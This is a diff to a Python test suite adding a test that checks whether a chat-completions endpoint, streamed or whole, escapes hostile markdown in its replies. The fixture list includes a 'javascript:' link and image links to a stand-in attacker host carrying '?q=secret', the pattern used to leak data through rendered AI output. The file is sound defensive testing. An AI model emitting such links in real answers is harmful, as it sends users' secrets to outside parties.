@@ -3,11 +3,14 @@
 The browser's policy is switched off here (`bypass_csp`), so that escaping alone has to hold; the policy has tests of its own.
 """
 
+import json
+import re
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 from urllib.parse import urlencode, urlsplit
 
+import httpx
 import pytest
 from hostility import HostileDesk, batches, hostile_desk, line
 from markdown_it import MarkdownIt
@@ -254,6 +257,49 @@ def test_exported_markdown_holds_no_markup_of_others(watched: Watched, served: S
     for language in ("zh", "en"):
         html = shown_markdown(markdown(turns, hostile.index.reports, language, base=served.url))  # type: ignore[arg-type]
         assert page.evaluate(f"text => {INSPECT}(new DOMParser().parseFromString(text, 'text/html'))", html) == []
+
+
+LINKED = re.compile(r"(?<!\\)(?:(?<=http)|(?<=https)):(?=//)|(?<=www)\.|@", re.IGNORECASE)
+"""What dialects make links of, bare in a text."""
+HOSTILE_MARKDOWN = [f"[1]({address})" for address in ("javascript:alert(1)", f"http://{ATTACKER}/")] + [
+    f"![](http://{ATTACKER}/?q=secret)",
+    f"![1](http://{ATTACKER}/)",
+    f"[1]: http://{ATTACKER}/ 'x'",
+    f"[x]: <http://{ATTACKER}/>",
+    f"<http://{ATTACKER}/>",
+    f"# [a][1] ![b][1] www.{ATTACKER} http://{ATTACKER}/ me@{ATTACKER}",
+    "\\[x](y) \\![x](//y) \\\\<img src=x>",
+    "| a | b |",
+    "```html",
+    "&lt;img src=//x&gt; &#91;x&#93;(//y)",
+    "$x$ \\(y\\) $$z$$",
+]
+
+
+@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "stream"])
+def test_a_program_that_shows_answers_of_v1_as_markdown_gets_no_markup_of_others(watched: Watched, served: Served, hostile: HostileDesk, streamed: bool) -> None:
+    hostile.repeats = "llm"
+    page = watched.opened(f"{served.url}/login")
+    with httpx.Client(base_url=served.url, timeout=60) as web:
+        for payload in [*batches(), *HOSTILE_MARKDOWN, "\n".join(HOSTILE_MARKDOWN)]:
+            reply = web.post("/v1/chat/completions", json={"model": "duizhao", "messages": [{"role": "user", "content": payload}], "stream": streamed})
+            said = _streamed(reply.text) if streamed else reply.json()["choices"][0]["message"]["content"]
+            html = shown_markdown(said)
+            found = page.evaluate(
+                f"text => {{ const doc = new DOMParser().parseFromString(text, 'text/html'); return [{INSPECT}(doc), doc.querySelectorAll('a, img, code, pre, em, strong, h1, table').length, doc.body.innerText] }}",
+                html,
+            )
+            assert found[:2] == [[], 0], said
+            if "\n" not in payload:
+                assert " ".join(payload.split()) in " ".join(found[2].split()), "it is shown as it was written"
+            bare = [row for row in said.split("\n") if not row.startswith(f"{served.url}/read/") and LINKED.search(row.replace("\\.", "").replace("\\@", ""))]
+            assert bare == []
+
+
+def _streamed(events: str) -> str:
+    """The text of a stream of chunks."""
+    rows = [json.loads(row.removeprefix("data: ")) for row in events.split("\n\n") if row and row != "data: [DONE]"]
+    return "".join(row["choices"][0]["delta"].get("content", "") for row in rows)
 
 
 def test_there_are_as_many_payloads_as_are_wanted() -> None:
